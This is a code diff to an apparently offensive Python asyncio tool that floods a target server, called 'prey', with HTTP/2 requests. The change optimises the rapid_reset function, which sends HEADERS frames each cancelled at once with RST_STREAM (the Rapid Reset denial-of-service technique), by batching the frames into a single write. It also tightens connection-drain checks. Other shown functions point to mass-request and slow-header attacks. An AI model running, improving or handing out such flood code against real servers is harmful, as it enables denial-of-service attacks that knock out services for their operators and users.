@@ -75,9 +75,7 @@ async def rapid_reset(prey: Prey, streams: int) -> Flood:
         writer.write(PREFACE + frame(SETTINGS, 0, 0))
         while sent < streams and not ended.done():
             numbers = range(2 * sent + 1, 2 * (sent + BATCH) + 1, 2)
-            for number in numbers:
-                writer.write(frame(HEADERS, END_HEADERS | END_STREAM, number, asked))
-                writer.write(frame(RST_STREAM, 0, number, CANCEL))
+            writer.write(b"".join(_asked_and_reset(asked, number) for number in numbers))
             sent += BATCH
             if not await _drained(writer):
                 break
@@ -106,6 +104,10 @@ async def many_requests(prey: Prey, requests: int, connections: int) -> Counter[
     left = [requests // connections] * connections
     found = await asyncio.gather(*(_requests(prey, number) for number in left))
     return sum(found, Counter[int]())
+
+
+def _asked_and_reset(asked: bytes, number: int) -> bytes:
+    return frame(HEADERS, END_HEADERS | END_STREAM, number, asked) + frame(RST_STREAM, 0, number, CANCEL)
 
 
 async def _slow_head(prey: Prey, interval_s: float) -> int:
@@ -175,7 +177,7 @@ async def _drained(writer: asyncio.StreamWriter) -> bool:
         await writer.drain()
     except OSError:
         return False
-    return True
+    return not writer.is_closing()
 
 
 def _fields(prey: Prey) -> Fields:
